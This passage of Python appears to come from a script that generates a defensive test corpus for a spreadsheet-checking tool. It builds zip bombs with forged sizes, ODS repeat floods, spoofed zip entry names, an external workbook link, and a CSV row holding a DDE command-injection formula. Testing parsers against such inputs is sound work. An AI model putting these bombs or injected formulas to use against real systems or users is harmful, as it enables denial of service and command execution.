                b"</externalReferences>",
            )
        if name == "xl/_rels/workbook.xml.rels":
            data = data.replace(
                b"</Relationships>",
                b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                b"</Relationships>",
            )
        parts.append((name, data))
    return _pack(
        [
            *parts,
            ("xl/externalLinks/externalLink1.xml", link),
            ("xl/externalLinks/_rels/externalLink1.xml.rels", link_rels),
        ]
    )


# -- bombs ---------------------------------------------------------------------------------------


def _repeated(head: bytes, block: bytes, count: int, tail: bytes) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``head + block × count + tail``, compressing ``block`` once;
    with its CRC-32 and size. Memory: the compressed stream only."""

    def alone(data: bytes) -> bytes:  # a full flush: decodes without what came before
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)

    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = alone(head) + alone(block) * count + last.compress(tail) + last.flush()
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return stream, zlib.crc32(tail, crc), len(head) + len(block) * count + len(tail)


def _raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip from ready deflate streams: (name, stream, crc, real size, declared size)."""
    out = bytearray()
    central = bytearray()
    for name, stream, crc, _real, declared in entries:
        encoded = name.encode()
        offset = len(out)
        header = (0x04034B50, 20, 0, 8, 0, 0x21, crc, len(stream), declared, len(encoded), 0)
        out += struct.pack("<IHHHHHIIIHH", *header) + encoded + stream
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(stream),
                declared,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(out), 0
    )
    return bytes(out + central + end)


def _deflated(data: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _with_big_sheet(base: bytes, block: bytes, count: int, forged: bool) -> bytes:
    entries = []
    for name, data in _unpack(base):
        if name == CARD:
            cut = data.index(b"</sheetData>")
            stream, crc, size = _repeated(data[:cut], block, count, data[cut:])
            entries.append((name, stream, crc, size, len(data) if forged else size))
        else:
            entries.append((name, _deflated(data), zlib.crc32(data), len(data), len(data)))
    return _raw_zip(entries)


def _bomb(base: bytes, forged: bool) -> bytes:
    """The scorecard sheet inflating past 1 GB: 1,100 copies of 1 MB of empty rows."""
    block = b"<row><c><v>1</v></c></row>" * 40_330  # 1 MiB, about
    return _with_big_sheet(base, block, (ONE_GB + 2**26) // len(block), forged)


def _rows(base: bytes) -> bytes:
    """1,000,000 rows (with no r= reference: each follows the one before)."""
    return _with_big_sheet(base, b"<row><c><v>1</v></c></row>" * 1000, 1000, False)


def _before_sheet_data_end(row: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", row + b"</sheetData>")


_ODS_FLOOD = (
    b'<table:table-row table:number-rows-repeated="100000"><table:table-cell '
    b'table:number-columns-repeated="2000" office:value-type="float" '
    b'office:value="1"/></table:table-row>'
)
_ODS_FLOODS = [
    (
        "ods_repeats_multiplied",
        "an .ods with 1,000 rows each repeated 999 times, 999 values wide (no count ≥ 1,000)",
        b'<table:table-row table:number-rows-repeated="999"><table:table-cell '
        b'table:number-columns-repeated="999" office:value-type="float" office:value="1"/>'
        b"</table:table-row>" * 1000,
    ),
    (
        "ods_repeat_single_quotes",
        "an .ods whose repeated value's counts are in single quotes",
        _ODS_FLOOD.replace(b'"', b"'"),
    ),
    (
        "ods_value_after_empty_rows",
        "an .ods with values 999 wide below a million empty rows",
        b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell '
        b'table:number-columns-repeated="1024"/></table:table-row><table:table-row>'
        b'<table:table-cell table:number-columns-repeated="999" office:value-type="float" '
        b'office:value="1"/></table:table-row>',
    ),
    (
        "ods_spaces",
        'an .ods text cell with <text:s text:c="500000000"/> (half a billion spaces)',
        b'<table:table-row><table:table-cell office:value-type="string"><text:p>a'
        b'<text:s text:c="500000000"></text:s>b</text:p></table:table-cell></table:table-row>',
    ),
]


_ODS_NESTED = (
    b'<table:table-row><table:table-cell><table:table table:name="x"><table:table-row>'
    b'<table:table-cell office:value-type="float" office:value="1"/></table:table-row>'
    b"</table:table></table:table-cell></table:table-row>"
)


def _referenced_target(data: bytes, far: Callable[[bytes], bytes]) -> bytes:
    card = _part(data, CARD)
    parts = [(n, d) for n, d in _unpack(data) if n != CARD]
    parts = [
        (n, d.replace(b'Target="worksheets/sheet1.xml"', b'Target="worksheets/s&amp;1.xml"'))
        if n == RELS
        else (n, d)
        for n, d in parts
    ]
    return _pack(
        [*parts, ("xl/worksheets/s&1.xml", card), ("xl/worksheets/s&amp;1.xml", far(card))]
    )


def _external_workbook(xml: bytes) -> bytes:
    twin = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="evil/workbook.xml" TargetMode="External"/>'
    )
    return xml.replace(b"</Relationships>", twin + b"</Relationships>")


def _unicode_named(data: bytes, far: Callable[[bytes], bytes]) -> bytes:
    """The card's part kept, and an entry ``x.xml`` (a far cell) whose Unicode Path extra
    field names it ``xl/worksheets/sheet1.xml``."""
    name = "xl/worksheets/x.xml"
    body = b"\x01" + struct.pack("<I", zlib.crc32(name.encode())) + CARD.encode()
    info = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    info.extra = struct.pack("<HH", 0x7075, len(body)) + body
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, content in _unpack(data):
            archive.writestr(zipfile.ZipInfo(part, (1980, 1, 1, 0, 0, 0)), content)
        archive.writestr(info, far(_part(data, CARD)))
    return buffer.getvalue()


_T_PREFIX = b'<office:document-content xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '


def _table_twice(xml: bytes) -> bytes:
    start = xml.index(b"<table:table ")
    end = xml.index(b"</table:table>", start) + len(b"</table:table>")
    return xml[:end] + xml[start:end] + xml[end:]


def _unreferenced_formula(xml: bytes) -> bytes:
    xml = xml.replace(b'<c r="E18" ', b'<c r="E99" ', 1)
    return re.sub(rb'<c r="F18"( s="\d+")?>.*?</c>', rb"<c\1><f>1+2</f><v>3</v></c>", xml, count=1)


def _foreign_formula(xml: bytes) -> bytes:
    cell = b'<x:c xmlns:x="urn:x" r="F18"><x:f>1+2</x:f><x:v>3</x:v></x:c>'
    return re.sub(rb'<c r="F18"( s="\d+")?>.*?</c>', cell, xml, count=1)


def _ods_content(change: Callable[[bytes], bytes]) -> bytes:
    """good.ods with its content.xml changed."""
    return _ods_repeated(b"", change=change)


def _ods_repeated(
    flood: bytes,
    before: bytes = b"</table:table>",
    change: Callable[[bytes], bytes] | None = None,
) -> bytes:
    """good.ods with ``flood`` put in its card's table, before the first ``before``."""
    source = HERE / "files" / "good.ods"
    parts = []
    for name, data in _unpack(source.read_bytes()):
        if name == "content.xml":
            data = change(data) if change else data.replace(before, flood + before, 1)
        parts.append((name, data))
    # the mimetype first and stored, as ODF requires
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts:
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


# -- not workbooks -----------------------------------------------------------------------------


def _csv() -> bytes:
    return "Mã,Nội dung,Điểm\nI.5,Kế hoạch,3\n=cmd|' /C calc'!A0,x,1\n".encode()


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" + b"\xff\x00\x00" * 2 + b"\x00" + b"\x00\x00\xff" * 2)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _html() -> bytes:
    return (
        "<html><body><table><tr><td>Mã</td><td>Điểm</td></tr>"
        "<tr><td>I.5</td><td>=1/0</td></tr></table></body></html>"
    ).encode()


def _docx() -> bytes:
    return _pack(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", "<w:document>Báo cáo</w:document>".encode()),
        ]
    )


def _encrypted() -> bytes:
    """ECMA-376 agile encryption, as Excel writes it (made by tests/files/make_files.py with
    msoffcrypto-tool, which is not a test dependency)."""
    return (HERE / "files" / "file_encrypted.xlsx").read_bytes()


TCVN3 = "KÕ ho¹ch sè 05/KH-PN ngµy 10/01/2024 cña Héi Liªn hiÖp Phô n÷"


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__)
        return 2
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for kind in build_corpus(folder):
        print(f"{kind.name:32} {kind.code:26} {', '.join(kind.files)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
